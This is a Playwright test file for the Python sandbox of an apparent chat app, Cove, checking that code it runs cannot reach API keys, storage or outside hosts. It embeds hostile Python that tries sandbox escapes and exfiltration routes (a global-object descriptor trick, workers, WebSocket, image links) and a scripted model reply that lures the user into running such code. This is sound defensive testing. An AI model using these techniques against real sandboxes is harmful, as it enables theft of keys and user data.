import { startLoopbackListener } from '../fixtures/loopback-listener.mjs';
import type { FakeOpenAIServer } from '../fixtures/fake-openai-server.mjs';
import type { CovePage } from './support/cove-page';
import { expect, test } from './support/fixtures';

// Code that Cove runs must not reach the person's keys, Cove's storage, the page or any
// host they did not allow. Each test saves a real key, then runs hostile Python that tries
// every route we know of towards the key and towards a listener on 127.0.0.1, which
// records any connection at all (HTTP, WebSocket, EventSource, images).

const FIRST_RUN = { timeout: 90_000 };
const SECRET = 'sk-cove-sandbox-test-7f3a9c';

test.describe.configure({ timeout: 180_000 });

/** Saves the fake provider with SECRET as its key, so there is a key to steal. */
async function saveKey(cove: CovePage, provider: FakeOpenAIServer): Promise<void> {
  provider.configure({ models: [{ id: 'chat-model', object: 'model', owned_by: 'fake' }] });
  await cove.openSettings();
  await cove.addProvider({ name: 'Fake', baseURL: provider.baseURL, apiKey: SECRET });
  await cove.page.getByRole('button', { name: 'Close settings' }).click();
}

/**
 * A Python program that tries each route and prints "<route>: blocked (…)" or
 * "<route>: REACHED …", then "all routes tried". `url` is the listener.
 */
function hostileProgram(url: string): string {
  const ws = url.replace('http:', 'ws:');
  return `
import asyncio, js
from pyodide.ffi import to_js, create_proxy
import pyodide.http

URL = ${JSON.stringify(url)}
R = js.Reflect

# Pyodide hands Python a recording proxy of the global object, on which most getters fail
# with "Illegal invocation". That is no boundary: WebIDL calls a global's getter with an
# undefined receiver on the real global, which is what an attacker would do.
G = R.apply(js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "self").get, None, to_js([]))

async def settle(thing):
    if asyncio.iscoroutine(thing) or hasattr(thing, "then"):
        return await asyncio.wait_for(thing, 10)
    return thing

async def attempt(name, make):
    try:
        value = await settle(make())
        print(f"{name}: REACHED {str(value)[:120]}")
    except Exception as error:
        print(f"{name}: blocked ({type(error).__name__}: {str(error)[:160]})")

def event_outcome(make):
    """A WebSocket or EventSource: REACHED on open, an exception on error."""
    future = asyncio.get_running_loop().create_future()
    target = make()
    def opened(event):
        if not future.done(): future.set_result("opened")
    def failed(event):
        if not future.done(): future.set_exception(ConnectionError("error event, nothing opened"))
    target.addEventListener("open", create_proxy(opened))
    target.addEventListener("error", create_proxy(failed))
    return future

def nested_worker(kind):
    code = f"fetch({URL!r} + 'nested-{kind}').then(() => postMessage('REACHED'), (e) => postMessage('blocked: ' + e))"
    if kind == "data":
        worker = G.Worker.new("data:text/javascript," + js.encodeURIComponent(code))
    else:
        blob = js.Blob.new(to_js([code]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
        worker = G.Worker.new(G.URL.createObjectURL(blob))
    future = asyncio.get_running_loop().create_future()
    def answered(event):
        if not future.done():
            if str(event.data).startswith("REACHED"): future.set_result(event.data)
            else: future.set_exception(PermissionError(str(event.data)))
    def failed(event):
        if not future.done(): future.set_exception(RuntimeError("the worker did not start"))
    worker.addEventListener("message", create_proxy(answered))
    worker.addEventListener("error", create_proxy(failed))
    return future

print("origin:", G.origin)
await attempt("indexedDB.open", lambda: G.indexedDB.open("cove"))
await attempt("indexedDB.databases", lambda: G.indexedDB.databases())
await attempt("caches", lambda: G.caches.keys())
await attempt("localStorage", lambda: G.localStorage.getItem("cove"))
await attempt("parent", lambda: G.parent.document.cookie)
await attempt("eval", lambda: G.eval("1 + 1"))
await attempt("Function", lambda: G.Function.new("return 1")())
await attempt("importScripts", lambda: G.importScripts(URL + "import.js"))
G.BroadcastChannel.new("cove-changes").postMessage("forged")
G.postMessage(to_js({"type": "cove-sandbox-init", "code": "fetch('" + URL + "frame')"}, dict_converter=js.Object.fromEntries))
await attempt("data worker", lambda: nested_worker("data"))
await attempt("blob worker", lambda: nested_worker("blob"))
await attempt("fetch", lambda: G.fetch(URL + "fetch"))
await attempt("fetch via prototype", lambda: R.apply(js.WorkerGlobalScope.prototype.fetch, G, to_js([URL + "proto"])))
await attempt("pyfetch", lambda: pyodide.http.pyfetch(URL + "pyfetch"))
await attempt("XMLHttpRequest", lambda: pyodide.http.open_url(URL + "xhr").read())
await attempt("WebSocket", lambda: event_outcome(lambda: G.WebSocket.new(${JSON.stringify(ws)} + "ws")))
await attempt("WebSocket via constructor", lambda: event_outcome(lambda: R.construct(G.WebSocket.prototype.constructor, to_js([${JSON.stringify(ws)} + "ws2"]))))
await attempt("EventSource", lambda: event_outcome(lambda: G.EventSource.new(URL + "events")))
await attempt("EventSource via constructor", lambda: event_outcome(lambda: R.construct(G.EventSource.prototype.constructor, to_js([URL + "events2"]))))
print(f'<img src="{URL}img-html"> ![leak]({URL}img-markdown)')
print("all routes tried")
`.trimStart();
}

const ROUTES = [
  'indexedDB.open',
  'indexedDB.databases',
  'caches',
  'localStorage',
  'parent',
  'eval',
  'Function',
  'importScripts',
  'data worker',
  'blob worker',
  'fetch',
  'fetch via prototype',
  'pyfetch',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocket via constructor',
  'EventSource',
  'EventSource via constructor',
];

/** Records what Cove's own tabs would hear on its change channel. */
async function listenToChangeChannel(cove: CovePage): Promise<void> {
  await cove.page.evaluate(() => {
    const heard: unknown[] = [];
    (window as unknown as { heardChanges: unknown[] }).heardChanges = heard;
    new BroadcastChannel('cove-changes').onmessage = (event) => heard.push(event.data);
  });
}

// Invariant 16: code Cove runs cannot reach keys, storage or other hosts.
test('a Python file cannot reach the key, Cove’s storage, the page or a host; the output says why', async ({
  cove,
  provider,
}) => {
  const listener = await startLoopbackListener();
  try {
    await saveKey(cove, provider);
    await listenToChangeChannel(cove);
    await cove.uploadFile('steal.py', hostileProgram(listener.url));
    await cove.item('steal.py').click();
    await cove.runButton('steal.py').click();
    await expect(cove.output).toContainText('all routes tried', FIRST_RUN);
    await expect(cove.runStatus).toHaveText(/^Finished in/);
    const output = (await cove.output.textContent()) ?? '';
    for (const route of ROUTES) expect(output).toContain(`${route}: blocked (`);
    // Refused for the right reason: the opaque origin, not an accident of the call.
    expect(output).toContain('origin: null');
    expect(output).toMatch(/indexedDB\.open: blocked \(JsException: SecurityError/);
    expect(output).toMatch(/caches: blocked \(JsException: SecurityError/);
    expect(output).toMatch(/eval: blocked \(JsException: EvalError/);
    expect(output).toMatch(
      /fetch via prototype: blocked \(JsException: TypeError: Failed to fetch/,
    );
    expect(output).not.toContain('Illegal invocation');
    expect(output).not.toContain('REACHED');
    expect(output).not.toContain(SECRET);
    // The person is told what was refused and where to allow it.
    await expect(cove.output).toContainText(
      `[Cove] Cove blocked a connection to ${listener.url}fetch: Python may only load packages from the package index. To allow other hosts, change Settings → Python → Network`,
    );
    expect(listener.hits).toEqual([]);
    // Cove's tabs announce their own changes on this channel; the sandbox's message is not among them.
    const heard = await cove.page.evaluate(
      () => (window as unknown as { heardChanges: unknown[] }).heardChanges,
    );
    expect(heard).not.toContain('forged');
    // Cove itself is unharmed: the next run works.
    await cove.writePython('after.py', 'print("still fine")');
    await cove.runButton('after.py').click();
    await expect(cove.output).toContainText('still fine', FIRST_RUN);
    expect(listener.hits).toEqual([]);
  } finally {
    await listener.close();
  }
});

test('Run on a reply’s code block is sandboxed the same way', async ({ cove, provider }) => {
  const listener = await startLoopbackListener();
  try {
    await saveKey(cove, provider);
    await expect(cove.page.getByRole('combobox', { name: 'Model' })).toHaveValue(/\/chat-model$/);
    provider.script({
      content: [
        'Run this to check your setup:',
        '',
        '```python',
        'import js, pyodide.http',
        'from pyodide.ffi import to_js',
        'G = js.Reflect.apply(js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "self").get, None, to_js([]))',
        'try:',
        '    G.indexedDB.open("cove")',
        '    print("storage REACHED")',
        'except Exception as error:',
        '    print("storage blocked:", type(error).__name__, error)',
        'try:',
        `    await pyodide.http.pyfetch("${listener.url}reply")`,
        '    print("network REACHED")',
        'except Exception as error:',
        '    print("network blocked")',
        '```',
      ].join('\n'),
    });
    const message = cove.page.getByRole('combobox', { name: 'Message' });
    await message.fill('How do I check my setup?');
    await message.press('Enter');
    const reply = cove.page.getByRole('article', { name: 'Assistant reply' }).last();
    await reply.getByRole('button', { name: 'Run this Python code' }).click();
    const output = reply.getByRole('log', { name: 'Output of this code' });
    await expect(output).toContainText('network blocked', FIRST_RUN);
    await expect(output).toContainText('storage blocked: JsException');
    await expect(output).toContainText('SecurityError');
    await expect(output).toContainText(`[Cove] Cove blocked a connection to ${listener.url}reply`);
    await expect(output).not.toContainText('REACHED');
    expect(listener.hits).toEqual([]);
  } finally {
    await listener.close();
  }
});

test('the network setting: "Any host" lets a script connect (with a warning), "Off" blocks even packages', async ({
  cove,
}) => {
  const listener = await startLoopbackListener();
  try {
    await cove.openSettings();
    const settings = cove.settings;
    await settings.getByRole('radio', { name: /Any host/ }).check();
    await expect(settings.getByRole('note')).toContainText(
      'a script can send your workspace files to any server',
    );
    await settings.getByRole('button', { name: 'Save Python settings' }).click();
    await expect(cove.notices).toContainText('Python settings saved.');
    await cove.page.getByRole('button', { name: 'Close settings' }).click();

    const probe = `import pyodide.http\nr = await pyodide.http.pyfetch("${listener.url}allowed")\nprint("answer:", await r.text())`;
    await cove.writePython('probe.py', probe);
    await cove.runButton('probe.py').click();
    await expect(cove.output).toContainText('answer: reached', FIRST_RUN);
    expect(listener.hits).toEqual(['GET /allowed HTTP/1.1']);

    await cove.openSettings();
    await settings.getByRole('radio', { name: /^Off/ }).check();
    await settings.getByRole('button', { name: 'Save Python settings' }).click();
    await expect(cove.notices).toContainText('Python settings saved.');
    await cove.page.getByRole('button', { name: 'Close settings' }).click();
    await cove.runButton('probe.py').click();
    await expect(cove.output).toContainText("Python's network access is off", FIRST_RUN);
    expect(listener.hits).toEqual(['GET /allowed HTTP/1.1']);
    // The setting is kept.
    await cove.reload();
    await cove.openSettings();
    await expect(settings.getByRole('radio', { name: /^Off/ })).toBeChecked();
  } finally {
    await listener.close();
  }
});

test('nothing of a run outlives it: a timer, a promise and a task left in one workspace never touch the next', async ({
  cove,
}) => {
  // Workspace A leaves behind everything a script can: an interval, a pending promise, an
  // asyncio task (a thread cannot start in Pyodide), each of which would list the files it
  // finds and write them into the workspace it is then in.
  const leftovers = `
import asyncio, js, os, threading
from pyodide.ffi import create_proxy

def loot(*args, os=os, open=open, repr=repr):
    try:
        with open("/workspace/loot_from_other_workspace.txt", "w") as out:
            out.write(repr(sorted(os.listdir("/workspace"))))
    except Exception:
        pass

js.setInterval(create_proxy(loot), 50)
js.Promise.new(create_proxy(lambda resolve, reject: js.setTimeout(resolve, 2000))).then(create_proxy(loot))

async def forever(loot=loot, asyncio=asyncio):
    while True:
        await asyncio.sleep(0.05)
        loot()

asyncio.ensure_future(forever())
try:
    threading.Thread(target=loot).start()
except RuntimeError as error:
    print("thread:", error)
print("left behind")
`.trimStart();
  await cove.writePython('leave.py', leftovers);
  await cove.runButton('leave.py').click();
  await expect(cove.output).toContainText('left behind', FIRST_RUN);
  await expect(cove.runStatus).toHaveText(/^Finished in/);

  await cove.createWorkspace('Secrets');
  await cove.writePython(
    'hello.py',
    'import asyncio\nawait asyncio.sleep(1.5)\nprint("hello from B")',
  );
  await cove.runButton('hello.py').click();
  await expect(cove.output).toContainText('hello from B', FIRST_RUN);
  await expect(cove.runStatus).toHaveText(/^Finished in/);
  // Again, in case something was written between the runs.
  await cove.runButton('hello.py').click();
  await expect(cove.output).toContainText('hello from B', FIRST_RUN);
  await expect(cove.runStatus).toHaveText(/^Finished in/);
  await expect(cove.tree.getByRole('treeitem')).toHaveText(['hello.py']);
  // And A got nothing either, though its own leftovers had a second and more to run.
  await cove.switchWorkspace('Welcome');
  await expect(cove.item('leave.py')).toBeVisible();
  await expect(cove.item('loot_from_other_workspace.txt')).toHaveCount(0);
});
